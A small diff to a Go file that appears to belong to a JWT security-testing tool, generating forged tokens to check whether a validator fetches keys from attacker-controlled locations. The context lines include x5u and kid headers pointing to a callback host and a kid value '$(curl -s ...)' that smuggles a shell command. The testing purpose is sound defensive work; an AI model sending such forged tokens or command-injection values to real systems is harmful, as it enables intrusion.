@@ -22,7 +22,7 @@ func (f *forger) calling() []Token {
 		{ID: "T24", Name: "x5u-callback", Title: "x5u of the forger's certificate, which is really there", Want: want, Raw: f.byOwn(own("x5u", quote(x5u)), f.payload())},
 		{ID: "T22", Name: "kid-callback-url", Title: "kid is an address where something answers", Want: want, Raw: f.byOwn(object("alg", quote(algorithm), "kid", quote(f.Callback+"/T22/key.pem"), "typ", f.kind()), f.payload())},
 		{ID: "T22", Name: "kid-callback-shell", Title: "kid is a command that fetches", Want: want, Raw: f.byOwn(object("alg", quote(algorithm), "kid", quote("$(curl -s "+f.Callback+"/T22/curl)"), "typ", f.kind()), f.payload())},
-		{ID: "T30", Name: "iss-callback", Title: "a genuine token of an issuer of the forger's, which is really there", Want: "The issuer is another one; nothing may be fetched from it.", Raw: f.byOwn(own(), f.changed("iss", quote(issuer), "sub", `"usr_forged"`, "iat", f.at(0)))},
+		{ID: "T30", Name: "iss-callback", Title: "a genuine token of an issuer of the forger's, which is really there", Want: "The issuer is another one; nothing may be fetched from it.", Raw: f.byOwn(own(), f.changed("iss", quote(issuer), "sub", quote(ForgedSubject), "iat", f.at(0)))},
 	}
 }
 
